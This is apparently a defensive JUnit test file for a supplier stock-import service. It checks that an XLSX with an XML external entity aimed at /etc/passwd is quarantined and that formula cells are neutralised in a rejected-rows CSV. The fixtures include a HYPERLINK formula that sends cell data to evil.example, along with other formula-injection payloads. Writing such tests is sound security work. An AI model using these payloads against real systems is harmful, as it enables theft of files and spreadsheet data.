package dev.storeops.stockimport;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.storeops.stack.AwsStack;
import dev.storeops.stack.junit.WithAwsStack;
import dev.storeops.stockimport.aws.DynamoStockStore;
import dev.storeops.stockimport.core.ImportReport;
import dev.storeops.stockimport.core.XxeWorkbooks;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import software.amazon.awssdk.core.sync.RequestBody;
import software.amazon.awssdk.services.dynamodb.model.AttributeValue;

/**
 * Hostile supplier files on the AWS stack: an XLSX that declares an XML external entity, and cells that
 * would run as formulas when a buyer opens the rejected-rows CSV in a spreadsheet.
 */
@WithAwsStack
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class StockImportHardeningTest {
  private AwsStack stack;
  private StockImportHandler handler;
  private String bucket;
  private String table;

  @BeforeAll
  void setUp(AwsStack stack) {
    this.stack = stack;
    this.handler = stack.handler("StockImportFunction", StockImportHandler.class);
    this.bucket = stack.bucketName("SupplierBucket");
    this.table = stack.tableName("StoreTable");
  }

  private String supplierWithProfile() {
    String sup = "sup-" + UUID.randomUUID().toString().substring(0, 8);
    String profile = """
        {"supplierId": "%s", "warehouse": "msk-1",
         "columns": {"sku": ["Артикул"], "quantity": ["Остаток"], "name": ["Наименование"]}}
        """.formatted(sup);
    put("profiles/" + sup + ".json", profile.getBytes(StandardCharsets.UTF_8));
    return sup;
  }

  private void put(String key, byte[] body) {
    stack.s3().putObject(b -> b.bucket(bucket).key(key), RequestBody.fromBytes(body));
  }

  private ImportReport upload(String key, byte[] body) {
    put(key, body);
    return handler.handleRequest(S3Events.objectCreated(bucket, key, (long) body.length,
        UUID.randomUUID().toString().replace("-", ""), Long.toHexString(System.nanoTime()).toUpperCase()), null).get(0);
  }

  private String object(String key) {
    return stack.s3().getObjectAsBytes(b -> b.bucket(bucket).key(key)).asUtf8String();
  }

  private List<String> keys(String prefix) {
    List<String> out = new ArrayList<>();
    stack.s3().listObjectsV2Paginator(l -> l.bucket(bucket).prefix(prefix)).contents().forEach(o -> out.add(o.key()));
    return out;
  }

  @Test
  void anXlsxDeclaringAnExternalEntityIsQuarantinedAndTheEntityIsReadNowhere() throws Exception {
    String passwd = Files.readAllLines(Path.of("/etc/passwd")).get(0);
    String sup = supplierWithProfile();
    String plainSku = sup + "-PLAIN";
    ImportReport report = upload("incoming/" + sup + "/stock.xlsx",
        XxeWorkbooks.sharedStringsWithExternalEntity(plainSku, "UTF-8"));

    assertEquals(ImportReport.QUARANTINED, report.status(), report.reason());
    assertTrue(report.reason().contains("declares a DOCTYPE"), report.reason());
    assertEquals(List.of("quarantine/" + sup + "/"), keys("quarantine/" + sup + "/").stream()
        .map(k -> k.substring(0, k.lastIndexOf('/') + 1)).distinct().toList());
    assertEquals(List.of(), keys("incoming/" + sup + "/"));
    // nothing of the file was applied, so nothing of it is in the table
    assertTrue(stack.dynamoDb().getItem(g -> g.tableName(table).key(DynamoStockStore.key(plainSku, "msk-1"))
        .consistentRead(true)).item().isEmpty());

    // the entity's target (/etc/passwd) appears in no report, rejected-rows file or table item
    for (String key : keys("reports/" + sup + "/")) {
      assertFalse(object(key).contains(passwd), key);
      assertFalse(object(key).contains("root:"), key);
    }
    assertFalse(report.toString().contains(passwd));
    stack.dynamoDb().scanPaginator(s -> s.tableName(table)).items().forEach(item -> {
      for (AttributeValue v : item.values()) {
        assertFalse(String.valueOf(v).contains(passwd), item.toString());
      }
    });
  }

  @Test
  void rejectedRowsThatStartLikeFormulasAreNeutralisedInTheRejectedRowsCsv() {
    String sup = supplierWithProfile();
    String csv = "Артикул;Наименование;Остаток\n"
        + sup + "-1;Чай;5\n"
        + "=1+2;\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\";=2+3\n"
        + "@SUM(A1:A9);+cmd;-x\n"
        + sup + "-2;\t=1+1;abc\n";
    ImportReport report = upload("incoming/" + sup + "/stock.csv", csv.getBytes(StandardCharsets.UTF_8));
    assertEquals(ImportReport.APPLIED, report.status(), report.reason());
    assertEquals(3, report.rejectedCount(), report.toString());

    String rejected = object(report.rejectedRowsFile());
    List<String> lines = rejected.lines().toList();
    assertEquals("row,reason,cells", lines.get(0));
    String all = String.join("\n", lines.subList(1, lines.size()));
    assertTrue(all.contains(",'=1+2,"), rejected);
    assertTrue(all.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\""), rejected);
    assertTrue(all.contains(",'=2+3"), rejected);
    assertTrue(all.contains(",'@SUM(A1:A9),'+cmd,'-x"), rejected);
    assertTrue(all.contains("'\t=1+1"), rejected);
  }
}
